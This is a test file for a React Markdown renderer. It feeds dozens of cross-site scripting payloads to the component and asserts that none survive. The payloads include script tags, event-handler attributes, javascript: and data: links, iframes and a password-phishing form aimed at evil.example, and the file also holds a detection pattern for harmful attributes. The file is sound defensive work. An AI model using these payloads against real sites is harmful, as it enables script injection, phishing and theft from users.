import { beforeAll, describe, expect, it } from '@jest/globals';
import { MantineProvider } from '@mantine/core';
import { renderToStaticMarkup } from 'react-dom/server';
import { startEnglish } from '../../testing/english.ts';
import { MarkdownContent } from './markdown-content.tsx';
import { loadHighlighting, loadMath } from './lazy-plugins.ts';
import { loadParser } from './markdown-parser.ts';

function render(source: string): string {
  const whole = renderToStaticMarkup(
    <MantineProvider>
      <MarkdownContent source={source} />
    </MantineProvider>,
  );
  // Mantine's own style element comes first and is not what is examined here.
  return whole.replaceAll(/<style[^>]*data-mantine[\s\S]*?<\/style>/g, '');
}

beforeAll(async () => {
  await startEnglish();
  await Promise.all([loadParser(), loadMath(), loadHighlighting()]);
});

/** Each of these ran code, loaded something or took over the page in some renderer. */
const attacks: [string, string][] = [
  ['a script element', '<script>alert(1)</script>'],
  ['a script in a paragraph', 'before <script src="https://evil.example/x.js"></script> after'],
  ['an image with an error handler', '<img src=x onerror=alert(1)>'],
  ['upper case and newlines', '<IMG\nSRC="x"\nONERROR="alert(1)">'],
  [
    'a details element that runs when opened',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
  ],
  ['an svg with a handler', '<svg onload=alert(1)><circle /></svg>'],
  ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['an svg link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['MathML with a link', '<math href="javascript:alert(1)">x</math>'],
  ['a javascript link', '[x](javascript:alert(1))'],
  ['a javascript link in disguise', '[x](JaVaScRiPt&colon;alert(1))'],
  ['a javascript link with a control character', '<a href="java\u0001script:alert(1)">x</a>'],
  ['a javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['an entity-coded javascript link', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['a javascript autolink', '<javascript:alert(1)>'],
  ['a vbscript link', '[x](vbscript:msgbox(1))'],
  ['a data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a data image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['a javascript image', '![x](javascript:alert(1))'],
  ['a reference to a javascript address', '[x][1]\n\n[1]: javascript:alert(1)'],
  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
  ['an iframe with a document inside', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="https://evil.example/x.swf"></object>'],
  ['an embed', '<embed src="https://evil.example/x.swf">'],
  ['a form', '<form action="https://evil.example"><input name=password><button>Sign in</button></form>'],
  ['a button with a form action', '<button formaction="javascript:alert(1)">x</button>'],
  ['a base element', '<base href="https://evil.example/">'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a link to a style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['a style element', '<style>body{background:url(https://evil.example)}</style>'],
  ['a style attribute', '<p style="position:fixed;inset:0;background:red">x</p>'],
  ['a class of the application', '<p class="mantine-Modal-root">x</p>'],
  ['an unclosed comment', '<!--><script>alert(1)</script>-->'],
  ['a noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a video with a handler', '<video><source onerror="alert(1)"></video>'],
  ['a formula with a link', String.raw`$\href{javascript:alert(1)}{x}$`],
  ['a formula with html', String.raw`$\htmlData{x=1}{y} \htmlStyle{position:fixed}{y}$`],
  ['a formula with an image', String.raw`$\includegraphics{https://evil.example/x.png}$`],
  ['an endless formula', String.raw`$\def\a{\a\a}\a$`],
  ['a directive with a handler', ':::callout{onclick="alert(1)" style="position:fixed"}\nx\n:::'],
  ['a container title with html', ':::callout[<img src=x onerror=alert(1)>]\nx\n:::'],
  ['code whose language is markup', '```"><img/src=x/onerror=alert(1)>\nx\n```'],
  [
    'a picture that names other sources',
    '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
  ],
  ['an input that takes the focus', '<input autofocus onfocus=alert(1)>'],
];

const forbidden = new Set(
  'script style iframe object embed form input base meta link template noscript video source picture'.split(
    ' ',
  ),
);

type Attribute = { tag: string; name: string; value: string };

/** Elements and attributes of what React wrote: there `<` begins a tag and `"` ends a value, all else is escaped. */
function markupOf(html: string): { tags: string[]; attributes: Attribute[] } {
  const tags = [...html.matchAll(/<([\w-]+)((?:\s[^\s=>]+="[^"]*")*)\s*\/?>/g)];
  const attributes = tags.flatMap(([, tag, list]) =>
    [...list!.matchAll(/\s([^\s=>]+)="([^"]*)"/g)].map(([, name, value]) => ({
      tag: tag!,
      name: name!,
      value: value!,
    })),
  );
  return { tags: tags.map(([, tag]) => tag!.toLowerCase()), attributes };
}

function isHarmful({ name, value }: Attribute): boolean {
  if (/^on/i.test(name) || name === 'srcdoc' || name === 'srcset' || name === 'formaction') return true;
  if (/^(href|src|xlink:href)$/i.test(name))
    return /^\s*(javascript|vbscript|data):|evil\.example/i.test(value);
  return name === 'style' && /position:\s*fixed|url\(/i.test(value);
}

describe('what an author could try in Markdown', () => {
  it.each(attacks)('%s does nothing', (_, source) => {
    const { tags, attributes } = markupOf(render(source));
    expect(tags.length).toBeGreaterThan(0);
    expect(tags.filter((tag) => forbidden.has(tag))).toEqual([]);
    expect(attributes.filter(isHarmful)).toEqual([]);
    expect(attributes.filter(({ value }) => value.includes('mantine-Modal-root'))).toEqual([]);
  });

  it('cannot shadow a name of the page: every id carries a prefix', () => {
    const html = render('<h2 id="content">x</h2><a id="root" name="body">y</a>');
    expect(html).not.toMatch(/(id|name)="(content|root|body)"/);
  });
});
